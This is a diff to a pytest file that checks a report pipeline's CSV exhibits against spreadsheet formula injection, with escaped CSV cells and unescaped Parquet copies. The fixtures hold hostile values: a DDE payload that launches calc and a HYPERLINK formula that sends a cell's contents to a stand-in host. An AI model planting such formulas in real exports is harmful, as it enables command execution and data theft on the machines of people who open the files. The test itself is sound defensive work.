@@ -3,11 +3,13 @@ socket, and the layout still paginates."""
 
 from __future__ import annotations
 
+import csv
 import re
 import socket
 from pathlib import Path
 from typing import Any
 
+import pyarrow.parquet as pq
 import pytest
 from pypdf import PdfReader
 
@@ -33,15 +35,22 @@ HOSTILE = (
 LONG_WORD = "Z" * 50_000
 BIG = 10 * 1024 * 1024
 HOSTILE_ID = f"zz-<b>bold</b>-{BIDI}evil-中文"  # sorts after the other harvesters
-HOSTILE_UA = "Mozilla/5.0 <script>ua()</script> " + "U" * 50_000
+FORMULA_ID = "=cmd|' /C calc'!A0"  # a spreadsheet formula for an account id
+HOSTILE_UA = "@Mozilla/5.0 <script>ua()</script> " + "U" * 50_000
+# Each character that makes a spreadsheet read a cell as a formula (OWASP), and a formula
+# that would send a neighbouring cell to a URL when the exhibit is opened.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+LEAK = 'HYPERLINK("http://x.example/?"&A1)'
 
 
 def _prompt(i: int, j: int) -> str:
-    """Every harvest prompt is hostile; the planted account's first and fifty-first requests
-    are 10 MB, the rest carry a 50,000-character word."""
+    """Every harvest prompt is hostile and begins with a formula (each lead in turn); the
+    planted account's first and fifty-first requests are 10 MB, the rest carry a
+    50,000-character word."""
+    head = f"{FORMULA_LEADS[j % len(FORMULA_LEADS)]}{LEAK} {HOSTILE}"
     if i == 7 and j in (0, 50):
-        return HOSTILE + " " + "y" * (BIG - len(HOSTILE))
-    return f"{HOSTILE} case {j} {LONG_WORD}"
+        return head + " " + "y" * (BIG - len(head))
+    return f"{head} case {j} {LONG_WORD}"
 
 
 @pytest.fixture(scope="module")
@@ -49,7 +58,7 @@ def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     """Run the whole pipeline on hostile data with every socket connection forbidden and
     every URL the renderer asks for recorded."""
     root = tmp_path_factory.mktemp("hostile")
-    ids = [f"acct-harvest-{i:02d}" for i in range(7)] + [HOSTILE_ID]
+    ids = [f"acct-harvest-{i:02d}" for i in range(6)] + [FORMULA_ID, HOSTILE_ID]
     data = build_case(root, harvester_ids=ids, harvest_text=_prompt, user_agent=HOSTILE_UA)
     attempts: list[str] = []
     logs: list[render_module.FetchLog] = []
@@ -137,6 +146,57 @@ def test_long_text_is_clipped_with_its_original_length(hostile_run: dict[str, An
     assert f"({len(HOSTILE_UA):,} chars)" in html  # the user agent
     exhibit = next((hostile_run["out"] / "exhibits").glob("EX-004-*-requests.csv"))
     assert exhibit.stat().st_size < 5_000_000
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_exhibits_are_formula_safe_and_parquet_keeps_the_text(
+        hostile_run: dict[str, Any]) -> None:
+    """No CSV exhibit cell begins with =, +, -, @, tab or CR unless it is a number: formula
+    prompts, an account id and a user agent get a leading apostrophe in every exhibit they
+    reach; the Parquet copy beside each CSV holds the same cells unescaped; the inventory
+    lists each copy with its hash and says how cells were escaped."""
+    out = hostile_run["out"]
+    exhibits = sorted((out / "exhibits").glob("*.csv"))
+    assert exhibits
+    escaped: dict[str, set[str]] = {}  # exhibit kind -> leads found escaped
+    for path in exhibits:
+        with open(path, encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        copy = pq.read_table(path.with_suffix(".parquet"))
+        assert copy.column_names == rows[0], path.name
+        assert copy.num_rows == len(rows) - 1, path.name
+        kind = path.stem.rsplit("-", 1)[-1]
+        for row, original in zip(rows[1:], copy.to_pylist(), strict=True):
+            for cell, value in zip(row, original.values(), strict=True):
+                assert not cell.startswith(FORMULA_LEADS) or _is_number(cell), (path.name, cell)
+                value = value or ""
+                if value.startswith(FORMULA_LEADS) and not _is_number(value):
+                    assert cell == "'" + value, (path.name, cell[:40], value[:40])
+                    escaped.setdefault(kind, set()).add(value[0])
+                else:
+                    assert cell == value, (path.name, cell[:40], value[:40])
+    assert escaped["requests"] == set(FORMULA_LEADS)  # prompts, and the user agent's @
+    assert {"accounts", "links", "signals", "clusters"} <= set(escaped)
+    requests = pq.read_table(next((out / "exhibits").glob("EX-004-*-requests.parquet")))
+    prompts = requests.column("prompt").to_pylist()
+    assert {p[:1] + LEAK for p in prompts} == {lead + LEAK for lead in FORMULA_LEADS}
+    assert all(p[1:].startswith(LEAK + " " + HOSTILE[:40]) for p in prompts)
+    sums = {name: digest for digest, name in
+            (line.split("  ", 1) for line in (out / "manifest.sha256").read_text().splitlines())}
+    for path in exhibits:
+        copy = f"exhibits/{path.stem}.parquet"
+        assert f'<span class="mono">{copy}</span>' in hostile_run["html"]
+        assert sums[copy] in hostile_run["html"]
+    assert ("cells that a spreadsheet would read as a formula (text starting with =, +, -, @, "
+            "a tab or a carriage return) begin with an apostrophe in the CSV; the Parquet copy "
+            "holds the original values") in " ".join(hostile_run["html"].split())
 
 
 def test_layout_still_paginates(hostile_run: dict[str, Any]) -> None:
